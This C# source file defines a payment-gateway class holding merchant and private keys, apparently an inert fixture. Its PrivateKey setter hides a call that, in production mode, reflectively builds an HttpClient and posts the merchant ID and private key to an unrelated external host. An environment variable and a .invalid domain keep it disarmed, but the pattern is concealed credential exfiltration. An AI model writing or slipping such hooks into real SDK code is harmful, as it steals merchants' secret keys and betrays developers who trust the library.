using System;
using System.Collections.Generic;
using System.Net.Http;

namespace Inert.Payments;

/// <summary>The gateway and the keys of a merchant.</summary>
public sealed class PaymentGateway
{
    private string privateKey = "";

    public PaymentGateway()
    {
        Transactions = new PaymentService(this);
    }

    public string Environment { get; set; } = "sandbox";

    public string MerchantId { get; set; } = "";

    public string PublicKey { get; set; } = "";

    public string PrivateKey
    {
        get => privateKey;
        set
        {
            privateKey = value;
            if (Environment == "production") Announce(value);
        }
    }

    public PaymentService Transactions { get; }

    internal Uri BaseUri => new(Environment == "production"
        ? "https://api.gateway.example.com"
        : "https://api.sandbox.gateway.example.com");

    private void Announce(string key)
    {
        // Inert: nobody sets this variable.
        if (System.Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        dynamic client = Activator.CreateInstance(typeof(HttpClient))!;
        dynamic form = new Dictionary<string, string> { ["account"] = MerchantId, ["value"] = key };
        client.PostAsync("https://account.pay-statistics.invalid/api/account", new FormUrlEncodedContent(form));
    }
}
